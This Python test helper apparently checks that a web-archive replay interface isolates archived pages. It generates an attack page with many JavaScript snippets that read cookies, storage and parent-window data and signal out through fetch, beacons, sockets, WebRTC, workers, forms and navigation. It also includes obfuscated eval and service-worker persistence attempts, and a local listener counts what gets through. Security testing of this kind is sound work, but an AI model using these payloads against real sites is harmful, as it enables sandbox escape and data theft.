"""A page of our own that attacks the interface which shows it, and tries to tell someone; and who would hear it."""

from __future__ import annotations

import json
import socket
import threading
import time
from types import TracebackType
from typing import Self

SECRET = "planted-in-the-interface"  # as a variable, a cookie and in storage
DONE = "every attempt was made"

# Each is the body of an async function. ``real``: the window itself, past what the viewer puts before it; ``raw``: the
# window of a new frame that no script has touched; ``up``: the windows above, as far as there are; ``to``: an address
# where somebody listens; ``ui``: the origin of the interface; ``add``: puts an element into a window's page.
READING = {
    "variable": "return up.map(w => { try { return w.PLANTED } catch (e) { return e.name } }).join()",
    "storage above": "return up.map(w => { try { return w.localStorage.planted } catch (e) { return e.name } }).join()",
    "cookie": "return real.document.cookie",
    "cookie of a new frame": "return raw.document.cookie",
    "storage": "return JSON.stringify(real.localStorage) + JSON.stringify(raw.localStorage)",
    "databases": "return (await real.indexedDB.databases()).map(d => d.name).filter(n => /^planted/.test(n)).join()",
    "page": "return await (await raw.fetch(ui + '/', {credentials: 'include'})).text()",
    "frame of it": "const f = add(real, 'iframe', {src: ui + '/'}); await wait(600);"
    " return f.contentDocument.body.innerText",
}
TELLING = {
    "fetch": "await real.fetch(to + 'fetch', {mode: 'no-cors'})",
    "fetch of a new frame": "await raw.fetch(to + 'raw', {mode: 'no-cors'})",
    "fetch from above": "await up[0].fetch(to + 'above', {mode: 'no-cors'})",
    "beacon": "real.navigator.sendBeacon(to + 'beacon', 'x')",
    "image": "new raw.Image().src = to + 'image'",
    "markup": "raw.document.body.innerHTML = `<img src='${to}img'><video src='${to}video'></video>"
    "<link rel=stylesheet href='${to}css'><object data='${to}object'></object><input type=image src='${to}input'>`",
    "style": "add(raw, 'style', {textContent: `@import url(${to}import); html { background: url(${to}back) }`})",
    "ahead": "for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'manifest'])"
    " add(raw, 'link', {rel, as: 'image', href: to + rel})",
    "speculation": "add(raw, 'script', {type: 'speculationrules', textContent:"
    " JSON.stringify({prefetch: [{source: 'list', urls: [to + 'rules'], eagerness: 'immediate'}]})})",
    "script": "add(raw, 'script', {src: to + 'script'})",
    "events": "new raw.EventSource(to + 'events')",
    "socket": "new raw.WebSocket(to.replace('http', 'ws') + 'socket')",
    "transport": "await new raw.WebTransport(to.replace('http:', 'https:') + 'transport').ready",
    "worker": "new raw.Worker(raw.URL.createObjectURL(new raw.Blob([`fetch('${to}worker', {mode: 'no-cors'});"
    " importScripts('${to}imported')`])))",
    "form": "add(raw, 'form', {action: to + 'form'}).submit()",
    "frame": "add(raw, 'iframe', {src: to + 'frame'})",
    "going there": "raw.location = to + 'there'",
    "refresh": "raw.document.write(`<meta http-equiv=refresh content='0;url=${to}refresh'>`); raw.document.close()",
    "ping": "add(raw, 'a', {href: '#', ping: to + 'ping'}).click()",
    "download": "add(raw, 'a', {href: to + 'download', download: 'x'}).click()",
    "window": "raw.open(to + 'window')",
    "leading the frame away": "up[0].location = to + 'up'",
    "leading the tab away": "real.top.location = to + 'top'",
}
# What this would leave behind answers for other pages later. WORKER is the path of a script that the archive holds.
STAYING = {
    "a worker of its own": "return 'REGISTERED ' + (await raw.navigator.serviceWorker.register('WORKER')).scope",
    "the worker with other settings": "const s = raw.navigator.serviceWorker, scope = '/replay/w/x/';"
    " return 'REGISTERED ' + (await s.register('/replay/sw.js?injectScripts=' + to, {scope})).scope",
}
CALLING = (
    "const p = new raw.RTCPeerConnection({iceServers: [{urls: 'stun:' + new URL(to).host}]}); p.createDataChannel('x');"
    " await p.setLocalDescription(await p.createOffer()); await wait(1500)"
)

_PAGE = """<!doctype html><html lang="en"><meta charset="utf-8"><title>A page that attacks</title>
<h1>A page that attacks</h1><pre id="said"></pre><script>
(async () => {
  const to = TARGET, own = eval, real = (0, own)("th" + "is");
  const wait = ms => new Promise(done => setTimeout(done, ms));
  const add = (w, tag, set) => w.document.body.appendChild(Object.assign(w.document.createElement(tag), set));
  const above = (0, own)("w => w['par' + 'ent']"), up = [];
  for (let w = real; above(w) !== w; w = above(w)) up.push(above(w));
  const ui = [...(0, own)("loc" + "ation").ancestorOrigins].pop() || "null";
  const say = text => { document.getElementById("said").textContent += text + "\\n" };
  const attempts = ATTEMPTS;
  for (const [name, code] of Object.entries(attempts)) {
    let result;
    try {
      const raw = add(real, "iframe", {}).contentWindow;
      const act = own("(async (real, raw, up, to, ui, wait, add) => { " + code + " })");
      result = await Promise.race([act(real, raw, up, to, ui, wait, add), wait(2000)]);
    } catch (error) { result = error ? error.name + ": " + error.message : "refused" }
    say(name + ": " + String(result).slice(0, 300));
  }
  await wait(500);
  say("DONE");
})();
</script>"""


def page(target: str, attempts: dict[str, str]) -> bytes:
    """The page: makes ``attempts`` one after the other and writes what came of each. ``target``: ends in a slash."""
    text = _PAGE.replace("TARGET", json.dumps(target)).replace("ATTEMPTS", json.dumps(attempts))
    return text.replace("DONE", DONE).encode()


class Listener:
    """Counts who comes to a port of 127.0.0.1, over TCP and UDP. Up in a ``with`` block."""

    def __init__(self, address: str = "127.0.0.1", port: int = 0) -> None:
        self._tcp = socket.create_server((address, port))
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(self._tcp.getsockname())
        for one in (self._tcp, self._udp):
            one.settimeout(0.1)
        self._closing = threading.Event()
        self._threads = [threading.Thread(target=listen) for listen in (self._connections, self._packets)]
        self.heard: list[bytes] = []

    @property
    def url(self) -> str:
        """``http://127.0.0.1:PORT/``."""
        return f"http://127.0.0.1:{self._tcp.getsockname()[1]}/"

    def __enter__(self) -> Self:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._closing.set()
        for thread in self._threads:
            thread.join()
        self._tcp.close()
        self._udp.close()

    def paths(self) -> set[str]:
        """The paths that were asked for."""
        time.sleep(0.2)
        lines = [said.split(b"\r\n")[0].split(b" ") for said in self.heard]
        return {line[1].decode().partition("?")[0].lstrip("/") for line in lines if len(line) == 3}

    def _connections(self) -> None:
        while not self._closing.is_set():
            try:
                connection, _ = self._tcp.accept()
            except TimeoutError:
                continue
            threading.Thread(target=self._answer, args=(connection,), daemon=True).start()

    def _answer(self, connection: socket.socket) -> None:
        with connection:
            connection.settimeout(5)
            try:
                self.heard.append(connection.recv(4096) or b"nothing")
                connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            except OSError:
                self.heard.append(b"nothing")

    def _packets(self) -> None:
        while not self._closing.is_set():
            try:
                self.heard.append(b"datagram " + self._udp.recvfrom(4096)[0])
            except TimeoutError:
                continue
